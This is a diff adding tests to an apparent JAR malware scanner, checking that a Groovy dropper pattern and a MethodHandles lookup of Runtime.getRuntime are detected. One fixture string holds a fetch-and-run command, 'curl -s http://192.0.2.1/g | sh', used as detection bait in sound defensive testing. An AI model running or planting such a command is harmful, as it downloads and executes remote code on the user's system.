@@ -200,3 +200,29 @@ describe.skipIf(!JDK)('string decryption folding', () => {
     expect(ioc?.evidence?.decodedFrom).toBe('decrypt');
   });
 });
+
+describe('language idioms', () => {
+  it('Groovy: "cmd".execute() through a dynamic call site is JAVA-001; call sites without execute are not', async () => {
+    const { classBytes } = await import('./classgen.js');
+    const { makeZip } = await import('./helpers.js');
+    const groovy = (names: string[]) =>
+      classBytes('g/Script1', [], [], 'strings', ['groovy/lang/GroovyObject'], {
+        $createCallSiteArray_1: names,
+        run: ['curl -s http://192.0.2.1/g | sh'],
+      });
+    const r = await scanBytes('g-1.jar', makeZip([['g/Script1.class', groovy(['execute', 'println'])]]));
+    const [f] = r.rule('JAVA-001');
+    expect(f?.evidence?.language).toBe('groovy');
+    expect(f?.category).toBe('dropper');
+    const neg = await scanBytes('g-1.jar', makeZip([['g/Script1.class', groovy(['println', 'each'])]]));
+    expect(neg.rule('JAVA-001')).toHaveLength(0);
+  });
+});
+
+describe.skipIf(!JDK)('method handles', () => {
+  it('JAVA-004: MethodHandles.Lookup.findStatic of Runtime.getRuntime', async () => {
+    const r = await jar(['fx/handles']);
+    expect(r.rule('JAVA-004')[0]?.evidence?.resolved).toBe('java.lang.Runtime.getRuntime');
+    expect((await jar(['fx/net'])).rule('JAVA-004')).toHaveLength(0);
+  });
+});
